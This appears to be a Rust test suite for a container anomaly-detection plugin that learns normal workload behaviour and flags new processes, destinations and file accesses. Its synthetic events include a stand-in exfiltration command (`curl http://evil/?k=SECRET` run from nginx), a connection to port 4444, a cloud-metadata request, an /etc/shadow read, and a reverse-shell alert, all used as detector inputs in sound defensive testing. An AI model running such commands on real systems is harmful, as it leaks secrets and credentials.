//! What is learned, what is told, and what is said with it.

#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::expect_used,
    reason = "a test that cannot go on has failed"
)]

use baseline::{Baseline, MANIFEST, PROFILE};
use palisade_sdk::testing::{Fakes, Installed};
use palisade_sdk::{Correlation, Detection, Event, Severity, Timer, correlate};
use proptest::prelude::*;
use serde_json::{Value, json};

/// 2026-11-02, a Monday, in seconds.
const BEGIN: u64 = 1_793_577_600;
const HOUR: u64 = 3_600;
const DAY: u64 = 86_400;

fn installed() -> Installed {
    Fakes::new().state(1 << 28).install()
}

fn run(config: &Value, events: &[Event]) -> Correlation {
    correlate::<Baseline>(&config.to_string(), events, &[], events.last().map_or(0, |event| event.time))
        .unwrap()
}

fn evidence(detection: &Detection) -> Value {
    serde_json::from_slice(&detection.evidence).unwrap()
}

fn rules(told: &Correlation) -> Vec<(&str, Severity)> {
    told.detections.iter().map(|detection| (detection.rule.as_str(), detection.severity)).collect()
}

/// A pod of the workload `web` with a body on top.
fn event(time: u64, replica: u32, digest: &str, body: Value) -> Event {
    let mut all = json!({
        "source": "tetragon",
        "container": { "id": format!("{replica:012x}99"), "name": "web", "image": "r/web:1", "digest": digest },
        "pod": { "namespace": "shop", "name": format!("web-{replica}"), "workload": { "kind": "Deployment", "name": "web" } },
        "joins": [format!("container:{replica:012x}"), "workload:shop/Deployment/web@c1"],
        "raw": {},
    });
    all.as_object_mut().unwrap().extend(body.as_object().unwrap().clone());
    let id = format!("t:{time}/{replica}/{}", body);
    Event::new(id, time * 1_000_000_000, "tetragon", "k8s:c1/apps/Deployment/shop/web", &all)
}

fn exec(time: u64, replica: u32, binary: &str, arguments: &str, parent: &str) -> Event {
    event(time, replica, "sha256:one", exec_body(binary, arguments, parent))
}

fn exec_body(binary: &str, arguments: &str, parent: &str) -> Value {
    json!({ "kind": "process.exec",
        "process": { "binary": binary, "arguments": arguments, "parent": { "binary": parent } } })
}

fn connect(time: u64, ip: &str, port: u16) -> Event {
    let network = json!({ "protocol": "tcp", "destinationIp": ip, "destinationPort": port });
    event(time, 1, "sha256:one", json!({ "kind": "network.connect", "network": network }))
}

fn alert(time: u64, replica: u32, rule: &str, severity: &str, binary: &str) -> Event {
    let mut body = exec_body(binary, "-c secret", "/usr/sbin/nginx");
    body["kind"] = json!("alert");
    body["severity"] = json!(severity);
    body["title"] = json!(format!("{rule} by {binary}"));
    body["rule"] = json!({ "id": rule, "techniques": ["T1613"] });
    event(time, replica, "sha256:one", body)
}

/// Ten minutes of a web server: it starts, asks its database every minute, and writes its log.
fn benign(begin: u64, replica: u32, digest: &str) -> Vec<Event> {
    let mut events = vec![
        event(
            begin,
            replica,
            digest,
            exec_body("/usr/sbin/nginx", "-g daemon off;", "/usr/bin/containerd-shim"),
        ),
        event(begin + 1, replica, digest, exec_body("/bin/sh", "-c setup", "/usr/sbin/nginx-entry")),
    ];
    for minute in 1..=10 {
        let at = begin + minute * 60 + 5;
        let network = json!({ "protocol": "tcp", "destinationIp": "10.0.7.9", "destinationPort": 5432 });
        events.push(event(at, replica, digest, json!({ "kind": "network.connect", "network": network })));
        events.push(event(
            at + 1,
            replica,
            digest,
            exec_body("/usr/bin/logrotate", &format!("-f {minute}"), "/usr/sbin/nginx"),
        ));
        events.push(event(
            at + 2,
            replica,
            digest,
            json!({ "kind": "file.access", "file": { "path": format!("/var/log/web-{minute}.log") } }),
        ));
    }
    events
}

fn learned() -> Installed {
    let fakes = installed();
    let told = run(&json!({}), &benign(BEGIN, 1, "sha256:one"));
    let rules = rules(&told);
    assert_eq!(rules, [("profile-learned", Severity::Negligible)], "the shell at the start is shown");
    fakes
}

#[test]
fn a_shell_in_a_web_server_is_explained() {
    let _fakes = learned();
    let told = run(
        &json!({}),
        &[exec(BEGIN + 20 * HOUR, 1, "/bin/bash", "-c 'curl http://evil/?k=SECRET'", "/usr/sbin/nginx")],
    );
    assert_eq!(rules(&told), [("new-process", Severity::High)]);
    let detection = &told.detections[0];
    assert_eq!(detection.title, "New process: /bin/bash -c * < /usr/sbin/nginx");
    assert_eq!(detection.incident_key, "workload:shop/Deployment/web@c1");
    assert_eq!(
        (detection.asset.as_str(), detection.items.as_slice()),
        ("k8s:c1/apps/Deployment/shop/web", [0].as_slice())
    );
    assert_eq!(
        evidence(detection),
        json!({
            "seen": { "class": "process", "item": "/bin/bash -c * < /usr/sbin/nginx", "at": "2026-11-02T20:00:00Z",
                "container": "000000000001", "tool": "shell" },
            "expected": [
                { "item": "/usr/bin/logrotate -f * < /usr/sbin/nginx", "days": 1, "replicas": 1, "occasions": 12 },
                { "item": "/bin/sh -c * < /usr/sbin/nginx-entry", "days": 1, "replicas": 1, "occasions": 0 },
                { "item": "/usr/sbin/nginx -g * < /usr/bin/containerd-shim", "days": 1, "replicas": 1, "occasions": 0 },
            ],
            "nearest": { "item": "/bin/sh -c * < /usr/sbin/nginx-entry", "distance": 0.222 },
            "profile": { "key": "image:sha256:one", "since": "2026-11-02T00:00:00Z", "ready": "2026-11-02T00:07:05Z",
                "items": 5, "events": 36, "replicas": 1, "singletons": 0.0, "unseen": 0.001 },
            "surpriseBits": 10.271,
            "makeNormal": {
                "accept": { "profile": "image:sha256:one", "class": "process", "item": "/bin/bash -c * < /usr/sbin/nginx" },
                "text": "put `accept` into the plugin's list `accept`",
            },
            "techniques": ["T1059.004"],
        })
    );
    // Once is enough, and what the evidence says makes it normal.
    let again = exec(BEGIN + 21 * HOUR, 1, "/bin/bash", "-c other", "/usr/sbin/nginx");
    assert!(run(&json!({}), &[again]).detections.is_empty());
    let accept = evidence(detection)["makeNormal"]["accept"].clone();
    let later = exec(BEGIN + 90 * HOUR, 1, "/bin/bash", "-c other", "/usr/sbin/nginx");
    assert!(run(&json!({ "accept": [accept] }), &[later]).detections.is_empty());
}

#[test]
fn every_kind_of_anomaly_has_its_rule() {
    let _fakes = learned();
    let now = BEGIN + 20 * HOUR;
    let file = |time, path: &str| {
        event(time, 1, "sha256:one", json!({ "kind": "file.access", "file": { "path": path } }))
    };
    let told = run(
        &json!({}),
        &[
            exec(now, 1, "/bin/sh", "-c id", "/usr/sbin/nginx"),
            exec(now + 1, 1, "/bin/sh", "-i", "/usr/sbin/nginx-entry"),
            exec(now + 2, 1, "/usr/bin/logrotate", "-v x", "/usr/sbin/nginx"),
            connect(now + 3, "203.0.113.9", 4444),
            connect(now + 4, "169.254.169.254", 80),
            connect(now + 5, "10.0.7.200", 5432),
            file(now + 6, "/etc/shadow"),
            file(now + 7, "/var/log/web-4711.log"),
            file(now + 8, "/data/x"),
        ],
    );
    assert_eq!(
        rules(&told),
        [
            ("unknown-parent", Severity::High),
            ("new-arguments", Severity::Low),
            ("new-destination", Severity::Medium),
            ("new-destination", Severity::High),
            ("new-file", Severity::High),
            ("new-file", Severity::Low),
        ]
    );
    assert_eq!(evidence(&told.detections[3])["techniques"], json!(["T1552.005"]));
    assert_eq!(evidence(&told.detections[2])["nearest"]["item"], "tcp 10.0.7.0/24:5432");
    assert_eq!(evidence(&told.detections[2])["seen"]["item"], "tcp 203.0.113.0/24:4444");
}

#[test]
fn nothing_is_an_anomaly_before_enough_is_known() {
    let _fakes = installed();
    let begin: Vec<Event> = benign(BEGIN, 1, "sha256:one").into_iter().take(5).collect();
    let mut events = begin;
    events.push(exec(BEGIN + 200, 1, "/bin/bash", "", "/usr/sbin/nginx"));
    assert!(run(&json!({}), &events).detections.is_empty());
    // A workload that does nothing after its start is known after a while, too.
    let _fakes = installed();
    let start = exec(BEGIN, 1, "/pause", "", "?");
    assert!(run(&json!({}), &[start]).detections.is_empty());
    let told = run(&json!({}), &[exec(BEGIN + 3 * HOUR, 1, "/bin/bash", "", "/pause")]);
    assert_eq!(rules(&told), [("new-process", Severity::High)]);
    let told = run(&json!({ "mode": "learn" }), &[exec(BEGIN + 4 * HOUR, 1, "/bin/dash", "", "/pause")]);
    assert!(told.detections.is_empty());
}

#[test]
fn a_new_image_inherits_what_the_one_before_did() {
    let _fakes = learned();
    let now = BEGIN + 2 * DAY;
    let mut events = benign(now, 2, "sha256:two");
    events.push(event(now + 620, 2, "sha256:two", exec_body("/usr/bin/newtool", "", "/usr/sbin/nginx")));
    events.insert(
        4,
        event(now + 66, 2, "sha256:two", exec_body("/usr/bin/curl", "http://x", "/usr/sbin/nginx")),
    );
    events.insert(5, event(now + 66, 2, "sha256:two", exec_body("/usr/bin/worker", "", "/usr/sbin/nginx")));
    let told = run(&json!({}), &events);
    let rules = rules(&told);
    assert_eq!(
        rules.iter().map(|(rule, _)| *rule).collect::<Vec<_>>(),
        ["new-process", "profile-learned", "new-process"]
    );
    let learned = evidence(&told.detections[1]);
    assert_eq!(
        learned["newSincePredecessor"],
        json!([{ "class": "process", "item": "/usr/bin/worker < /usr/sbin/nginx" }])
    );
    assert_eq!(learned["profile"]["predecessor"], "image:sha256:one");
    assert_eq!(evidence(&told.detections[0])["seen"]["tool"], "network tool");
    // What only the image before did in its time is still normal.
    let _fakes = learned_with(connect(BEGIN + 300, "192.0.2.1", 25));
    run(&json!({}), &benign(now, 2, "sha256:two"));
    let network = json!({ "protocol": "tcp", "destinationIp": "192.0.2.77", "destinationPort": 25 });
    let body = json!({ "kind": "network.connect", "network": network });
    assert!(run(&json!({}), &[event(now + HOUR, 2, "sha256:two", body)]).detections.is_empty());
}

fn learned_with(more: Event) -> Installed {
    let fakes = installed();
    let mut events = benign(BEGIN, 1, "sha256:one");
    events.push(more);
    events.sort_by_key(|event| event.time);
    run(&json!({}), &events);
    fakes
}

#[test]
fn nothing_is_learned_silently_after_an_alert() {
    let _fakes = installed();
    let events = benign(BEGIN, 1, "sha256:one");
    run(&json!({}), &events[..4]);
    let grave = alert(BEGIN + 70, 1, "Reverse shell", "critical", "/bin/bash");
    let told = run(&json!({}), &[grave, exec(BEGIN + 80, 1, "/tmp/x/miner", "", "/bin/bash")]);
    assert_eq!(told.detections.len(), 1, "{:?}", rules(&told));
    assert_eq!(evidence(&told.detections[0])["alert"]["rule"], "Reverse shell");
    assert_eq!(evidence(&told.detections[0])["seen"]["item"], "/tmp/x/miner < /bin/bash");
    // It was not learned: the same in another container next day is told again.
    run(&json!({}), &benign(BEGIN + 2 * HOUR, 1, "sha256:one"));
    let told = run(&json!({}), &[exec(BEGIN + 2 * DAY, 9, "/tmp/x/miner", "", "/bin/bash")]);
    assert_eq!(rules(&told)[0].0, "new-process");
}

#[test]
fn an_alert_that_always_comes_is_expected_and_a_critical_one_never() {
    let _fakes = installed();
    let mut told = Vec::new();
    run(&json!({}), &benign(BEGIN, 1, "sha256:one"));
    let tool = |time, rule: &str, severity| {
        let mut event = alert(time, 1, rule, severity, "/usr/bin/logrotate");
        event.id = format!("falco:{time}");
        event.source = "falco".to_owned();
        event
    };
    for day in 0..5u64 {
        let time = BEGIN + HOUR + day * DAY;
        for (rule, severity) in [("Contact API", "low"), ("Read log", "high"), ("Escape", "critical")] {
            let at = time
                + if severity == "critical" {
                    3 * HOUR
                } else if severity == "high" {
                    600
                } else {
                    0
                };
            told.extend(run(&json!({}), &[tool(at, rule, severity)]).detections);
        }
    }
    let summary: Vec<(String, String)> = told
        .iter()
        .map(|detection| {
            (detection.rule.clone(), evidence(detection)["alert"]["rule"].as_str().unwrap().to_owned())
        })
        .collect();
    // On the first two days they are new; the third is the third.
    let expected = |rule: &str| summary.iter().filter(|(_, of)| of == rule).count();
    assert_eq!((expected("Contact API"), expected("Read log"), expected("Escape")), (2, 2, 0), "{summary:?}");
    assert!(told.iter().all(|it| it.rule == "expected-alert" && it.severity == Severity::Negligible));
    let evidence = evidence(&told[0]);
    assert_eq!(evidence["suppressedBy"], "baseline:image:sha256:one");
    assert_eq!(
        evidence["alert"],
        json!({ "event": format!("falco:{}", BEGIN + HOUR + 3 * DAY), "rule": "Contact API", "severity": "low" })
    );
    assert_eq!(evidence["support"]["days"], 3);
    // Another process under the same rule is not.
    let other = alert(BEGIN + 6 * DAY, 1, "Contact API", "low", "/usr/bin/other");
    assert!(run(&json!({}), &[other]).detections.is_empty());
    // Nor is the same one after something grave in the same container.
    let grave = alert(BEGIN + 7 * DAY, 1, "Miner", "high", "/usr/bin/other");
    let quiet = tool(BEGIN + 7 * DAY + 60, "Contact API", "low");
    assert!(run(&json!({}), &[grave, quiet]).detections.is_empty());
}

#[test]
fn an_alert_in_many_containers_need_not_wait_for_days() {
    let _fakes = learned();
    let at = |replica: u32| {
        alert(BEGIN + HOUR + u64::from(replica) * 900, replica, "Contact API", "low", "/usr/bin/logrotate")
    };
    let told: Vec<usize> = (1..9).map(|replica| run(&json!({}), &[at(replica)]).detections.len()).collect();
    assert_eq!(told, [0, 0, 0, 0, 0, 1, 1, 1]);
    let never = json!({ "expected-replicas": 0 });
    assert!(run(&never, &[at(10)]).detections.is_empty());
}

#[test]
fn a_sensor_that_knows_no_digest_tells_of_the_same_profile() {
    let _fakes = learned();
    let mut body =
        json!({ "source": "falco", "kind": "process.exec", "container": { "id": format!("{:012x}", 1) } });
    body["process"] = json!({ "binary": "/usr/bin/nmap", "parent": { "binary": "/usr/sbin/nginx" } });
    let told = run(&json!({}), &[Event::new("f", (BEGIN + 20 * HOUR) * 1_000_000_000, "falco", "", &body)]);
    assert_eq!(evidence(&told.detections[0])["profile"]["key"], "image:sha256:one");
}

#[test]
fn siblings_that_do_the_same_weigh_less_and_then_only_count() {
    let _fakes = learned();
    let now = BEGIN + 20 * HOUR;
    let events: Vec<Event> = (1..=5)
        .map(|replica| exec(now + u64::from(replica), replica, "/usr/bin/nmap", "", "/usr/sbin/nginx"))
        .collect();
    let told = run(&json!({}), &events);
    let severities: Vec<Severity> = told.detections.iter().map(|it| it.severity).collect();
    assert_eq!(severities, [Severity::High, Severity::Medium, Severity::Low]);
    assert_eq!(evidence(&told.detections[1])["siblings"], 1);
    assert_eq!(evidence(&told.detections[2])["rollout"], true);
    let timer = told.timers[0].clone();
    assert_eq!(timer.time, (now / HOUR + 1) * HOUR * 1_000_000_000);
    let told = correlate::<Baseline>("{}", &[], &[timer], u64::MAX).unwrap();
    assert_eq!(rules(&told), [("anomalies-left-out", Severity::Medium)]);
    assert_eq!(evidence(&told.detections[0])["count"], 2);
    assert_eq!(evidence(&told.detections[0])["examples"], json!(["/usr/bin/nmap < /usr/sbin/nginx"]));
}

#[test]
fn an_hour_has_a_budget_and_grave_ones_have_their_own() {
    let _fakes = learned();
    let now = BEGIN + 20 * HOUR;
    let mut events: Vec<Event> = (0..50u64)
        .map(|n| {
            let path = format!(
                "/data/{}/x",
                char::from(b'a' + (n % 26) as u8).to_string().repeat(1 + n as usize / 26)
            );
            event(now + n, 1, "sha256:one", json!({ "kind": "file.access", "file": { "path": path } }))
        })
        .collect();
    events.push(exec(now + 100, 1, "/bin/bash", "", "/usr/sbin/nginx"));
    events.push(exec(now + 101, 1, "/bin/odd", "", "/usr/sbin/nginx"));
    let told = run(&json!({ "budget": 2 }), &events);
    let rules: Vec<&str> = told.detections.iter().map(|it| it.rule.as_str()).collect();
    assert_eq!(rules, ["new-file", "new-file", "new-process", "new-process"]);
    // The next hour's first anomaly ends the last one.
    let told = run(&json!({ "budget": 2 }), &[exec(now + HOUR, 1, "/bin/odder", "", "/usr/sbin/nginx")]);
    assert_eq!(told.detections[0].rule, "anomalies-left-out");
    assert_eq!(evidence(&told.detections[0])["count"], 48);
}

#[test]
fn what_goes_on_for_days_becomes_normal_unless_attackers_use_it() {
    let _fakes = learned();
    let mut told = Vec::new();
    for day in 1..=9 {
        for replica in 1..=2 {
            for binary in ["/usr/bin/report", "/usr/bin/nmap"] {
                let time = BEGIN + day * DAY + u64::from(replica) * 2 * HOUR;
                told.extend(
                    run(&json!({}), &[exec(time, replica, binary, "", "/usr/sbin/nginx")]).detections,
                );
            }
        }
    }
    let of = |name: &str| told.iter().filter(|it| it.title.contains(name)).count();
    assert!(of("report") <= 14 && of("nmap") > of("report"), "{} {}", of("report"), of("nmap"));
    let last = |name: &str| told.iter().rposition(|it| it.title.contains(name)).unwrap();
    assert!(last("nmap") > last("report"));
}

#[test]
fn a_frozen_profile_learns_nothing() {
    let _fakes = installed();
    let profile = json!({ "key": "image:sha256:one", "frozen": true, "classes": {
        "process": { "items": ["/usr/sbin/nginx -g * < /usr/bin/containerd-shim"] },
        "file": { "level": 3 } } });
    let config = json!({ "profiles": [profile] });
    let told = run(&config, &benign(BEGIN, 1, "sha256:one"));
    let titles: Vec<&str> = told.detections.iter().map(|it| it.title.as_str()).collect();
    assert_eq!(
        titles,
        [
            "New process: /bin/sh -c * < /usr/sbin/nginx-entry",
            "New destination: tcp 10.0.7.0/24:5432",
            "New process: /usr/bin/logrotate -f * < /usr/sbin/nginx",
        ]
    );
    let told = run(&config, &[exec(BEGIN + 3 * DAY, 1, "/bin/sh", "-c x", "/usr/sbin/nginx-entry")]);
    assert_eq!(evidence(&told.detections[0])["frozen"], true);
}

#[test]
fn a_profile_goes_from_one_installation_to_another() {
    let exported: Vec<Value> = {
        let _fakes = learned();
        let asked =
            Event::new("a", 1, "palisade", "", &json!({ "kind": PROFILE, "key": "image:sha256:one" }));
        let told = run(&json!({}), &[asked]);
        assert_eq!(told.detections.len(), 4);
        told.detections.iter().map(|detection| evidence(detection)["profile"].clone()).collect()
    };
    let _fakes = installed();
    let config = json!({ "profiles": exported });
    let mut events = benign(BEGIN + DAY, 7, "sha256:one");
    events.insert(4, exec(BEGIN + DAY + 66, 7, "/bin/bash", "", "/usr/sbin/nginx"));
    let told = run(&config, &events);
    assert_eq!(told.detections[0].title, "New process: /bin/bash < /usr/sbin/nginx");
    assert!(told.detections[1..].iter().all(|it| it.rule == "profile-learned"), "{:?}", rules(&told));
    let asked = Event::new("a", 1, "palisade", "", &json!({ "kind": PROFILE, "key": "image:none" }));
    assert!(run(&config, &[asked]).problems[0].message.contains("no profile \"image:none\""));
}

#[test]
fn a_month_of_ordinary_life_is_quiet() {
    let _fakes = installed();
    let mut told = 0;
    for day in 0..30u64 {
        for replica in 0..3u32 {
            // A pod is replaced each day.
            let events =
                benign(BEGIN + day * DAY + u64::from(replica), replica + day as u32 * 10, "sha256:one");
            told +=
                run(&json!({}), &events).detections.iter().filter(|it| it.rule != "profile-learned").count();
        }
    }
    assert_eq!(told, 0);
}

#[test]
fn the_manifest_declares_every_rule_and_setting() {
    let manifest: toml::Table = MANIFEST.parse().unwrap();
    let declared: Vec<&str> =
        manifest["rules"].as_array().unwrap().iter().map(|rule| rule["id"].as_str().unwrap()).collect();
    for rule in [
        "new-process",
        "unknown-parent",
        "new-arguments",
        "new-destination",
        "new-file",
        "anomalies-left-out",
        "profile-learned",
        "expected-alert",
        "profile",
    ] {
        assert!(declared.contains(&rule), "{rule}");
    }
    let properties = manifest["config"]["properties"].as_table().unwrap();
    for (name, property) in properties {
        if let Some(default) = property.get("default") {
            let config = json!({ name: default });
            assert!(correlate::<Baseline>(&config.to_string(), &[], &[], 0).is_ok(), "{config}");
        }
    }
    for (config, wanted) in [
        (json!({ "minutes": 0 }), "minutes: 0"),
        (json!({ "unseen-percent": 101 }), "unseen-percent: 101"),
        (json!({ "profiles": [{}] }), "profiles[0]: key is missing"),
        (json!({ "accept": [{}] }), "missing field `item`"),
        (json!({ "mode": "guess" }), "unknown variant"),
    ] {
        let error = correlate::<Baseline>(&config.to_string(), &[], &[], 0).unwrap_err();
        assert!(format!("{error:?}").contains(wanted), "{error:?}");
    }
}

/// Detections as texts, and the state without what only says when it was written.
fn cut_into(events: &[Event], cuts: &[usize]) -> (Vec<String>, Vec<(String, Vec<u8>)>) {
    let fakes = installed();
    let mut timers: Vec<Timer> = Vec::new();
    let mut told = Vec::new();
    let mut begin = 0;
    for end in cuts.iter().copied().chain([events.len()]) {
        let batch = &events[begin..end];
        begin = end;
        let watermark = batch.last().map_or(0, |event| event.time - 1);
        let due: Vec<Timer> = timers.extract_if(.., |timer| timer.time <= watermark).collect();
        let correlation = correlate::<Baseline>("{}", batch, &due, watermark).unwrap();
        timers.retain(|old| correlation.timers.iter().all(|new| new.key != old.key));
        timers.extend(correlation.timers);
        told.extend(
            correlation
                .detections
                .iter()
                .map(|it| format!("{} {} {}", it.rule, it.title, String::from_utf8_lossy(&it.evidence))),
        );
    }
    told.sort();
    (told, fakes.state().into_iter().collect())
}

fn stories() -> impl Strategy<Value = Vec<Event>> {
    let step = (0u64..900, 1u32..5, 0usize..12, 0u32..40);
    prop::collection::vec(step, 0..150).prop_map(|steps| {
        let mut time = BEGIN;
        let digests = ["sha256:one", "sha256:two"];
        let mut events = benign(BEGIN - 700, 1, "sha256:one");
        for (later, replica, what, n) in steps {
            time += later;
            let digest = digests[usize::from(replica > 3)];
            events.push(match what {
                0 => alert(time, replica, &format!("rule {}", n % 4), ["low", "high", "critical"][n as usize % 3], "/bin/b"),
                1..=5 => event(time, replica, digest, exec_body(&format!("/bin/b{}b", char::from(b'a' + n as u8 % 26)), "", "/init")),
                6..=8 => event(time, replica, digest, json!({ "kind": "file.access", "file": { "path": format!("/d/{}z", char::from(b'a' + n as u8 % 26)) } })),
                9 => exec(time, replica, "/bin/sh", "-c x", "/init"),
                _ => connect(time, &format!("10.{n}.1.1"), 80),
            });
        }
        events
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    #[test]
    fn how_events_are_cut_into_batches_decides_nothing(
        events in stories(), cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..12),
    ) {
        let mut cuts: Vec<usize> = cuts.iter().map(|cut| cut.index(events.len() + 1)).collect();
        cuts.sort_unstable();
        cuts.dedup();
        let cuts: Vec<usize> = cuts.into_iter().filter(|cut| *cut > 0).collect();
        let (whole, state) = cut_into(&events, &[]);
        let (parts, state_of_parts) = cut_into(&events, &cuts);
        prop_assert!(whole == parts);
        prop_assert!(state == state_of_parts);
    }
}
